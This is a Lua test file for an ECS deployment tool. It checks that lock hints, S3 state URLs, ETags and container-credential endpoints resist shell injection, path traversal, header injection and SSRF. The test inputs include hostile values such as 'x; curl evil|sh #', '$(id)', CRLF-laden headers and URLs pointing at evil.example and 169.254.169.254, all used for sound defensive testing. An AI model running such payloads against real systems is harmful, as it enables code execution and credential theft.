-- What others may write (locks, objects of a bucket, answers, variables) does not steer what is done here.
local core = require "ecs_service.core"
local credentials = require "ecs_service.credentials"
local ecs = require "ecs_service"
local exchange = require "ecs_service.aws.multiplexer"
local fake_s3 = require "support.fake_s3"
local issuing = require "support.issuing"
local journey = require "support.journey"
local lock = require "ecs_service.state.lock"
local shell = require "ecs_service.util.shell"

local KEYS = { access_key_id = "AKIDEXAMPLE", secret_access_key = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY" }

after_each(journey.clean)

describe("a lock that somebody else wrote", function()
  local function held(holder)
    local text = type(holder) == "string" and holder or core.json(holder)
    local backend = { lock = function() return nil, "held", text end,
      free_by_hand = function() return shell.command("aws s3 rm", "s3://states/a b; id") end }
    local _, err = lock.take(backend, "apply", { now = function() return 1e9 end, sleep = function() end }, 0)
    return err
  end

  it("puts no command of its own into the hint", function()
    for _, id in ipairs { "x; curl evil|sh #", "$(id)", "`id`", "a\nb", "-", "'", "x y", "" } do
      local err = held { id = id, user = "bob", host = "h", operation = "apply", pid = 1 }
      assert.equal("Locked", err.code)
      if id ~= "-" then assert.falsy(err.hint:find("unlock " .. (id == "" and "," or id), 1, true), err.hint) end
      assert.truthy(err.message:find("bob@h", 1, true), err.message)
    end
    local err = held { id = "0123abcd", user = "bob", host = "h", operation = "apply", pid = 1 }
    assert.truthy(err.hint:find("state unlock 0123abcd", 1, true), err.hint)
    assert.truthy(err.hint:find("aws s3 rm 's3://states/a b; id'", 1, true), err.hint)
  end)

  it("is a lock whatever stands in it", function()
    for _, holder in ipairs { "", "{", "[]", "null", "5", { id = {} }, { id = "a", pid = 1e300 },
                              { id = "a", pid = -1 }, { id = "a", pid = 0.5, host = core.system.hostname() },
                              { id = "a", since = {} },
                              { id = "a", user = {}, host = 5, operation = true, since = ("T"):rep(99) } } do
      assert.equal("Locked", held(holder).code)
    end
  end)
end)

describe("a word of a command in a hint", function()
  it("is quoted where a shell would make more of it", function()
    assert.equal("web", shell.word "web")
    assert.equal("s3://a/b.json", shell.word "s3://a/b.json")
    assert.equal("'a b'", shell.word "a b")
    assert.equal([['a'\''; id']], shell.word "a'; id")
    assert.equal("''", shell.word "")
    assert.equal("ecs-service status 'web (new)'", shell.command("ecs-service status", "web (new)"))
    local stack = journey.stack(journey.simulator(), { state = false })
    local _, err = stack:rollback "a; id"
    assert.falsy((err.hint or ""):find("[^']a; id"), err.hint)
  end)
end)

describe("a state in S3", function()
  local s3, sim

  before_each(function()
    journey.environment {}
    sim, s3 = journey.simulator(), fake_s3.new()
  end)

  local function stack(more)
    local given = { url = "s3://states/prod/ecs.json", transport = s3, credentials = KEYS }
    for key, value in pairs(more or {}) do given[key] = value end
    local made, err = ecs.stack { region = "us-west-2", transport = sim, state = given }
    if made then made:service("web", journey.web()) end
    return made, err
  end

  it("is asked of its owner's bucket alone, when the owner is named", function()
    assert(assert(stack { expected_bucket_owner = "123456789012" }):apply())
    assert.truthy(#s3.requests > 5)
    for _, request in ipairs(s3.requests) do
      assert.equal("123456789012", request.headers["x-amz-expected-bucket-owner"])
      assert.truthy(request.headers.Authorization:find("x-amz-expected-bucket-owner", 1, true))
    end
    for _, wrong in ipairs { "12345678901", "a23456789012", "", "123456789012\r\nx: y" } do
      local _, err = stack { expected_bucket_owner = wrong }
      assert.equal("WrongOption", err.code)
      assert.equal("state.expected_bucket_owner", err.path)
    end
  end)

  it("has no path that a server could read as another's, and no bucket that is an address", function()
    for _, url in ipairs { "s3://states/../other/k", "s3://states/a/../../other/k", "s3://states/./k",
                           "s3://states/a/..", "s3://127.0.0.1/k", "s3://192.168.10.20/k" } do
      local _, err = stack { url = url }
      assert.equal("WrongOption", err and err.code, url)
    end
    for _, url in ipairs { "s3://states/..a/k", "s3://states/a../k.json", "s3://states/a/...", "s3://1.2.3.4a/k" } do
      assert(stack { url = url })
    end
  end)

  it("is an error and no fault of this tool's when an answer's ETag cannot be sent back", function()
    for _, etag in ipairs { '"a\r\nx: y"', '"a\0b"', "\27[2J", "" } do
      s3 = fake_s3.new()
      local submit, put = s3.submit, nil
      function s3:submit(request) return submit(self, request) end
      put = s3.put
      function s3:put(key, text, headers)
        put(self, key, text, headers)
        self.objects[key].etag = etag
        return etag
      end
      s3:put("prod/ecs.json", "{}")
      local _, err = assert(stack()):apply()
      assert.is_string(err.code, etag)
      assert.falsy(tostring(err):find("\27", 1, true))
    end
  end)
end)

describe("an answer of ECS", function()
  local function planned(body)
    local sim = journey.simulator()
    local submit, wait, changed = sim.submit, sim.wait, {}
    function sim:submit(request)
      local target = request.headers["X-Amz-Target"] or request.headers["x-amz-target"] or ""
      changed[request.id] = target:find("DescribeServices", 1, true) ~= nil
      return submit(self, request)
    end
    function sim:wait(seconds)
      local completion = wait(self, seconds)
      if completion and changed[completion.id] then completion.body = body end
      return completion
    end
    local stack = journey.stack(sim, { state = false })
    stack:service("web", journey.web())
    return stack:plan()
  end

  it("that is not made as ECS makes it is an error, and plans nothing", function()
    for _, body in ipairs { '{"services":{"a":1},"failures":"x"}', '{"services":"x","failures":[]}',
                            '{"services":[1],"failures":[]}', '{"services":[],"failures":{"a":1}}',
                            '{"services":[],"failures":["x"]}', '{"failures":[]}', "{}", "[]",
                            '{"services":null,"failures":[]}', '{"services":[[]],"failures":[]}' } do
      local plan, err = planned(body)
      assert.is_nil(plan, body)
      assert.equal("InvalidAnswer", err.code, body)
    end
    assert(planned '{"services":[],"failures":[{"arn":"x","reason":"MISSING"}]}')
  end)
end)

describe("the container's credentials", function()
  it("are asked for below the path of ECS alone", function()
    for _, path in ipairs { ".evil.example/", "@evil.example/", ":80@evil.example/", "evil" } do
      journey.environment { AWS_CONTAINER_CREDENTIALS_RELATIVE_URI = path, AWS_CONFIG_FILE = "/nonexistent",
        AWS_SHARED_CREDENTIALS_FILE = "/nonexistent", AWS_EC2_METADATA_DISABLED = "true" }
      local asked = {}
      local provider = assert(credentials.new({ transport = { submit = function(_, request)
        asked[#asked + 1] = request.url
        return true
      end, wait = function() end, cancel = function() end } }))
      local found, err = provider:get(core.system.time())
      assert.is_nil(found)
      assert.truthy(tostring(err.message):find("RELATIVE_URI", 1, true), err.message)
      assert.same({}, asked)
    end
  end)

  it("get the container's token only over https, on this machine or at the addresses of ECS and EKS", function()
    local function asked(url)
      journey.environment { AWS_CONTAINER_CREDENTIALS_FULL_URI = url,
        AWS_CONTAINER_AUTHORIZATION_TOKEN = "container-token", AWS_CONFIG_FILE = "/nonexistent",
        AWS_SHARED_CREDENTIALS_FILE = "/nonexistent", AWS_EC2_METADATA_DISABLED = "true" }
      local urls, sim = {}, ecs.simulator {}
      local provider = assert(credentials.new({}, { scheduler = sim.scheduler, region = "us-west-2", transport =
        exchange.over(issuing.world(sim, function(request)
          urls[#urls + 1] = request.url
          return 404, ""
        end), sim.scheduler) }))
      local _, err = provider:get(sim:now())
      return #urls > 0, err
    end
    for _, url in ipairs { "http://192.0.2.1/x", "http://10.0.0.1/x", "http://169.254.169.254/x", "ftp://127.0.0.1/x",
                           "http://127.0.0.1.example/x", "http://localhost.example/x",
                           "http://127.0.0.1@evil.example/x", "http://[fd00:ec2::24]/x" } do
      local sent, err = asked(url)
      assert.is_false(sent, url)
      assert.truthy(tostring(err):find("no token may be sent", 1, true), url)
    end
    for _, url in ipairs { "http://127.0.0.1/x", "http://localhost:80/x", "http://[::1]/x", "http://169.254.170.23/x",
                           "http://[fd00:ec2::23]/x", "https://keys.example/x" } do
      assert.is_true((asked(url)), url)
    end
  end)
end)

describe("another program that is run for credentials", function()
  it("inherits no file or socket but its own three", function()
    local home = journey.folder()
    journey.write(home .. "/keys", [[
n=$(ls -l /proc/self/fd | grep -c socket)
echo '{"Version":1,"AccessKeyId":"SOCKETS'$n'","SecretAccessKey":"S"}']])
    journey.write(home .. "/config", "[default]\ncredential_process = sh '" .. home .. "/keys'\n")
    journey.environment { AWS_CONFIG_FILE = home .. "/config", AWS_SHARED_CREDENTIALS_FILE = home .. "/none" }
    local transport = require "ecs_service.transport.curl".new {}
    local keys = assert(assert(credentials.new {}):get(core.system.time()))
    transport:close()
    assert.equal("SOCKETS0", keys.access_key_id)
  end)
end)
